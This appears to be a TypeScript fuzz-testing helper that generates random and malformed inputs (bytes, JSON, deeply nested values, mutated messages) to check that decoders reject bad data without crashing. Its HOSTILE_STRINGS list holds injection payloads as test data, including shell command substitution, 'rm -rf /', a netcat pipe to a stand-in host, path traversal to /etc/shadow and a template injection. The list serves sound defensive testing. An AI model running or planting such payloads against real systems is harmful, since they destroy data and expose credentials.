/**
 * A small seeded generator of hostile inputs for fuzz tests: random bytes (often not UTF-8),
 * random JSON values, mutations of valid messages, oversized and deeply nested values. Every
 * run prints nothing unless a case fails; the failure names the seed and case number so the
 * exact input can be replayed with FUZZ_SEED=<seed>.
 */

/** A deterministic 32-bit PRNG (mulberry32). */
export class Prng {
  private state: number

  constructor (readonly seed: number) {
    this.state = seed >>> 0
  }

  /** Uniform in [0, 1). */
  next (): number {
    this.state = (this.state + 0x6D2B79F5) >>> 0
    let t = this.state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }

  /** Integer in [0, n). */
  int (n: number): number { return Math.floor(this.next() * n) }

  /** One element of `items`. */
  pick<T> (items: readonly T[]): T { return items[this.int(items.length)] as T }

  /** True with probability p. */
  chance (p: number): boolean { return this.next() < p }
}

/** The seed for this run: FUZZ_SEED from the environment, else a fixed default per suite. */
export function fuzzSeed (fallback: number): number {
  const env = process.env.FUZZ_SEED
  return env !== undefined && /^\d+$/.test(env) ? Number(env) : fallback
}

/** Strings meant to break shells, parsers, paths and logs. */
export const HOSTILE_STRINGS = [
  '', ' ', '$(touch /tmp/clusterd-pwned)', '`touch /tmp/clusterd-pwned`', ';rm -rf /', '&& reboot', '| nc evil 1',
  "'", '"', '\\', '\n', '\r\n', '\u0000', '../../etc/passwd', '/etc/shadow', '%00', '%2e%2e%2f', '%zz', '${HOME}',
  '{{ lookup("pipe", "id") }}', '-oProxyCommand=touch /tmp/x', '--help', 'a'.repeat(70), 'é', '\uD800', '🐙',
  '__proto__', 'constructor', 'prototype', 'toString', 'NaN', 'Infinity', '-1', '1e309', '0x10', ' 5', '9007199254740993'
] as const

/** A random string: hostile, random printable, or random code units (lone surrogates included). */
export function randomString (r: Prng, maxLength = 40): string {
  const kind = r.int(4)
  if (kind === 0) return r.pick(HOSTILE_STRINGS)
  const n = r.int(maxLength + 1)
  let s = ''
  for (let i = 0; i < n; i++) {
    s += kind === 1 ? String.fromCharCode(32 + r.int(95)) : kind === 2 ? r.pick(['a', 'b', '-', '.', '0', '9', '_', '/']) : String.fromCharCode(r.int(0x10000))
  }
  return s
}

/** A random JSON-compatible value up to `depth` levels of nesting. */
export function randomJson (r: Prng, depth = 4): unknown {
  const kind = r.int(depth <= 0 ? 6 : 8)
  switch (kind) {
    case 0: return null
    case 1: return r.chance(0.5)
    case 2: return r.pick([0, -1, 1, 1.5, -0.5, 2 ** 53, -(2 ** 53), 1e308, Number.MAX_SAFE_INTEGER, r.int(1000)])
    case 3: case 4: case 5: return randomString(r)
    case 6: return Array.from({ length: r.int(5) }, () => randomJson(r, depth - 1))
    default: {
      const o: Record<string, unknown> = {}
      for (let i = r.int(5); i > 0; i--) o[randomString(r, 12)] = randomJson(r, depth - 1)
      return o
    }
  }
}

/** `[[[...]]]` or `{"a":{"a":...}}` nested `depth` levels, as text (no recursion needed). */
export function deeplyNested (depth: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)
}

/** Random bytes, biased towards bytes that break UTF-8 and JSON. */
export function randomBytes (r: Prng, maxLength = 256): Uint8Array {
  const out = new Uint8Array(r.int(maxLength + 1))
  for (let i = 0; i < out.length; i++) out[i] = r.chance(0.3) ? r.pick([0x00, 0x22, 0x5b, 0x7b, 0x5c, 0x80, 0xbf, 0xc0, 0xed, 0xf8, 0xff]) : r.int(256)
  return out
}

/** A mutation of a valid JSON object: a field replaced, removed, added, retyped, or the text damaged. */
export function mutate (r: Prng, valid: Record<string, unknown>): Uint8Array {
  const text = JSON.stringify(valid)
  const kind = r.int(7)
  if (kind === 0) {
    // damage the text: flip, drop or insert bytes
    const bytes = new TextEncoder().encode(text)
    const copy = Uint8Array.from(bytes)
    for (let i = 1 + r.int(4); i > 0; i--) copy[r.int(copy.length)] = r.int(256)
    return copy
  }
  if (kind === 1) return new TextEncoder().encode(text.slice(0, r.int(text.length)))
  const o = structuredClone(valid) as Record<string, unknown>
  const keys = Object.keys(o)
  const key = r.pick(keys)
  if (kind === 2) delete o[key]
  else if (kind === 3) o[key] = randomJson(r, 3)
  else if (kind === 4) o[randomString(r, 10)] = randomJson(r, 3)
  else if (kind === 5) o[key] = JSON.parse(deeplyNested(40 + r.int(2000)))
  else o[key] = typeof o[key] === 'string' ? randomString(r, 200) : typeof o[key] === 'number' ? r.pick([-1, 0.5, 2 ** 60, 'x', null]) : randomJson(r, 2)
  return new TextEncoder().encode(JSON.stringify(o))
}

/**
 * Run a decoder on hostile input: it must not throw, and a refusal must say why. True when
 * it accepted the input (`seed` goes into the failure message, to replay with FUZZ_SEED).
 */
export function decodesWithoutThrowing<T> (decode: (b: Uint8Array) => { ok: true, value: T } | { ok: false, reason: string }, input: Uint8Array, where: string, seed: number): boolean {
  let res
  try { res = decode(input) } catch (err) { throw new Error(`threw on ${where} (seed ${seed}): ${(err as Error).message}`) }
  if (!res.ok && res.reason.length === 0) throw new Error(`no reason on ${where} (seed ${seed})`)
  return res.ok
}
